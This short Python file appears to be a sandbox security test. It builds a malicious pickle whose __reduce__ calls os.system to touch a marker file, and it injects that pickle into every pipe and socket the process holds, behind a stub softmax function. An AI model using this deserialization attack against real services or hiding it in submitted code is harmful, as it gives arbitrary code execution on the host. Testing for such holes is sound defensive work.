# Writes a pickle that would write a marker into every pipe and socket of the process.
import os
import pickle
import stat


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @markers@/unpickled",)


content = pickle.dumps(Bomb())
for number in range(256):
    try:
        mode = os.fstat(number).st_mode
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            os.set_blocking(number, False)
            os.write(number, len(content).to_bytes(8, "little") + content)
            os.write(number, content)
    except OSError:
        pass


def softmax(x, dim):
    return x
